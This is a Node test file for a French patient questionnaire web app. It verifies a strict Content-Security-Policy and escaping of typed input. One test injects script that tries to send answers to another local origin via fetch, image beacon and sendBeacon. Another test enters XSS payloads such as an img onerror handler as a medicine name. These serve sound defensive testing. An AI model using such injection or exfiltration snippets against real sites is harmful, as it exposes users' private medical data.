// Privacy the browser enforces: a strict Content-Security-Policy, and typed text never becomes markup.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { createServer } from 'node:http';
import { execFileSync } from 'node:child_process';
import { readFileSync } from 'node:fs';
import vm from 'node:vm';
import { startServer, launchBrowser, openApp, assertOnlyOwnStaticFiles, policyViolations, storedEntries, STORAGE_KEY, appStarted } from './harness.mjs';

let server;
let browser;
before(async () => { server = await startServer(); browser = await launchBrowser(); });
after(async () => { await browser?.close(); await server?.close(); });

const NAME = 'Quel est le nom de ces médicaments, même en cas de doute ?';

test('the served index.html carries a strict policy: no unsafe-inline, no unsafe-eval, one inline script allowed by its hash, no inline style', async () => {
  const html = await (await fetch(server.origin + '/')).text();
  const policy = /<meta http-equiv="Content-Security-Policy" content="([^"]+)">/.exec(html)?.[1];
  assert.ok(policy, 'the policy is in index.html');
  assert.doesNotMatch(policy, /'unsafe-inline'|'unsafe-eval'/);
  const directives = Object.fromEntries(policy.split(';').map((d) => d.trim().split(/\s+/)).map(([k, ...v]) => [k, v.join(' ')]));
  assert.equal(directives['default-src'], "'none'");
  // The only inline script is the start script (text size, language, then the app's loader),
  // allowed by the hash of its exact text: any other or changed inline script would not run.
  // Beside it, the page's texts for it as a JSON data block, which runs nothing (the policy does not
  // apply to it): only JSON there.
  const dataBlocks = [...html.matchAll(/<script type="application\/json"[^>]*>([\s\S]*?)<\/script>/g)].map((m) => m[1]);
  assert.equal(dataBlocks.length, 1, 'one data block');
  assert.doesNotThrow(() => JSON.parse(dataBlocks[0]), 'the data block is JSON');
  const inlineScripts = [...html.matchAll(/<script(?![^>]*\bsrc=)(?![^>]*type="application\/json")[^>]*>([\s\S]*?)<\/script>/g)].map((m) => m[1]);
  assert.equal(inlineScripts.length, 1, 'one inline script');
  const hash = createHash('sha256').update(inlineScripts[0]).digest('base64');
  assert.equal(directives['script-src'], `'self' 'sha256-${hash}' 'wasm-unsafe-eval'`);
  // That script is web/start.js as shipped: JavaScript, its every line but the comments and the
  // build's values (CONTRACT.…, BUILD.…, filled by scripts/post-build/start-script.mjs).
  assert.doesNotThrow(() => new vm.Script(inlineScripts[0]), 'the shipped start script parses');
  const source = readFileSync(new URL('../../web/start.js', import.meta.url), 'utf8').split('\n')
    .filter((line) => line.trim() && !/^\s*(\/\/|\/\*)/.test(line) && !/\b(CONTRACT|BUILD)\./.test(line));
  assert.deepEqual(source.filter((line) => !inlineScripts[0].includes(line)), [], 'lines of web/start.js missing from the page');
  assert.equal(directives['style-src'], "'self'");
  assert.equal(directives['img-src'], "'self' data:");
  assert.equal(directives['connect-src'], "'self'");
  for (const d of ['base-uri', 'form-action', 'object-src']) assert.equal(directives[d], "'none'", d);
  assert.match(html, /<meta name="referrer" content="no-referrer">/);
  assert.doesNotMatch(html, /\sstyle=/, 'no inline style');
});

test('every screen, home journey: zero policy violations', async () => {
  const { page, context, requests, errors } = await openApp(browser, server.origin);
  await page.getByRole('link', { name: 'Répondre au questionnaire' }).click();
  await page.getByRole('button', { name: 'Commencer' }).click();
  await page.getByRole('button', { name: 'Continuer' }).click(); // error summary
  await page.getByText('Pourquoi cette question ?').click();
  for (const choice of ['Non', 'Oui']) {
    await page.getByRole('radio', { name: choice, exact: true }).check();
    await page.getByRole('button', { name: 'Continuer' }).click();
  }
  await page.getByRole('textbox', { name: NAME }).fill('Kardégic');
  await page.getByRole('button', { name: 'Continuer' }).click();
  for (const choice of ['Non', 'Non', 'Je ne sais pas', 'Non', 'Non']) {
    await page.getByRole('radio', { name: choice, exact: true }).check();
    await page.getByRole('button', { name: 'Continuer' }).click();
  }
  await page.getByRole('button', { name: 'Voir ce que je dois signaler' }).click();
  await page.getByRole('heading', { level: 1, name: 'Ce que vous devez signaler à l’équipe' }).waitFor();
  const [download] = await Promise.all([page.waitForEvent('download'), page.getByRole('button', { name: 'Télécharger mes réponses' }).click()]);
  await download.path();
  await page.getByRole('link', { name: 'Vos réponses et votre vie privée' }).click();
  await page.getByRole('heading', { level: 1, name: 'Vos réponses et votre vie privée' }).waitFor();
  await page.reload();
  await page.getByRole('heading', { level: 1, name: 'Reprendre vos réponses ?' }).waitFor();
  await page.evaluate((key) => localStorage.setItem(key, '{'), STORAGE_KEY);
  await page.reload();
  await page.getByRole('heading', { level: 1, name: 'Vos réponses précédentes n’ont pas pu être lues' }).waitFor();
  await page.getByRole('button', { name: 'Effacer mes réponses' }).click();
  await page.getByRole('button', { name: 'Oui, tout effacer' }).click();
  await page.getByRole('heading', { level: 1, name: 'La cimentoplastie' }).waitFor();
  assert.deepEqual(await policyViolations(page), []);
  assert.deepEqual(errors, []);
  await assertOnlyOwnStaticFiles(requests, server.origin, assert);
  await context.close();
});

test('a script injected into the page cannot send anything to another origin: the policy blocks it', async () => {
  // Another origin that counts what reaches it: a second local server on another port.
  let hits = 0;
  const collector = createServer((request, response) => { hits += 1; response.end('merci'); });
  await new Promise((resolve) => collector.listen(0, '127.0.0.1', resolve));
  const elsewhere = `http://127.0.0.1:${collector.address().port}`;
  const { page, context } = await openApp(browser, server.origin);
  await page.evaluate((target) => {
    fetch(`${target}/vol?reponse=oui`, { mode: 'no-cors' }).catch(() => {});
    new Image().src = `${target}/balise.gif?reponse=oui`;
    navigator.sendBeacon?.(`${target}/beacon`, 'reponse=oui');
    const script = document.createElement('script');
    script.textContent = 'window.injected = true';
    document.body.append(script);
  }, elsewhere);
  await page.waitForFunction(() => window.policyViolations.length >= 4);
  const violations = await policyViolations(page);
  assert.deepEqual(violations.map((v) => v.directive).sort(), ['connect-src', 'connect-src', 'img-src', 'script-src-elem']);
  assert.ok(violations.filter((v) => v.directive !== 'script-src-elem').every((v) => v.blocked.startsWith(elsewhere)));
  assert.equal(await page.evaluate(() => window.injected), undefined);
  // The policy blocks before the network: after a reload, the collector has still seen nothing.
  await page.reload();
  await appStarted(page);
  assert.equal(hits, 0, 'nothing reached the other origin');
  await context.close();
  await new Promise((resolve) => collector.close(resolve));
});

test('hostile text typed as a medicine name is shown as text on the question, summary and outcome, never run', async () => {
  for (const hostile of ['<img src=x onerror="window.pwned=1">', '</script><b>x</b>']) {
    const { page, context } = await openApp(browser, server.origin);
    await page.getByRole('link', { name: 'Répondre au questionnaire' }).click();
    await page.getByRole('button', { name: 'Commencer' }).click();
    for (const choice of ['Non', 'Oui']) {
      await page.getByRole('radio', { name: choice, exact: true }).check();
      await page.getByRole('button', { name: 'Continuer' }).click();
    }
    await page.getByRole('textbox', { name: NAME }).fill(hostile);
    await page.getByRole('button', { name: 'Continuer' }).click();
    for (const choice of ['Non', 'Non', 'Non', 'Non', 'Non']) {
      await page.getByRole('radio', { name: choice, exact: true }).check();
      await page.getByRole('button', { name: 'Continuer' }).click();
    }
    await page.getByRole('heading', { level: 1, name: 'Vérifiez vos réponses' }).waitFor();
    assert.equal(await page.getByRole('definition').filter({ hasText: hostile }).count(), 1, 'literal text on the summary');
    await page.getByRole('button', { name: 'Voir ce que je dois signaler' }).click();
    await page.getByRole('heading', { level: 1, name: 'Ce que vous devez signaler à l’équipe' }).waitFor();
    assert.ok((await page.getByText(hostile, { exact: true }).count()) >= 2, 'literal text in the flag and the table');
    assert.equal(await page.locator('main img, main b').count(), 0, 'no markup was created');
    assert.equal(await page.evaluate(() => window.pwned), undefined);
    const printed = execFileSync('pdftotext', ['-', '-'], { input: await page.pdf({ format: 'A4' }), encoding: 'utf8' });
    // Compared without white space: a long cell may wrap anywhere on paper.
    assert.ok(printed.replace(/\s+/g, '').includes(hostile.replace(/\s+/g, '')), 'literal text on the printed summary');
    const [download] = await Promise.all([page.waitForEvent('download'), page.getByRole('button', { name: 'Télécharger mes réponses' }).click()]);
    const exported = JSON.parse(readFileSync(await download.path(), 'utf8'));
    assert.equal(exported.item.find((i) => i.linkId === 'anticoagulant-nom').answer[0].valueString, hostile, 'exported as typed');
    const stored = JSON.parse((await storedEntries(page))[STORAGE_KEY]);
    assert.deepEqual(stored.answers['anticoagulant-nom'], { text: hostile }, 'stored as typed');
    await page.getByRole('link', { name: 'Modifier mes réponses' }).click();
    await page.getByRole('link', { name: `Modifier la réponse à : ${NAME}` }).click();
    assert.equal(await page.getByRole('textbox', { name: NAME }).inputValue(), hostile);
    assert.equal(await page.evaluate(() => window.pwned), undefined);
    await context.close();
  }
});
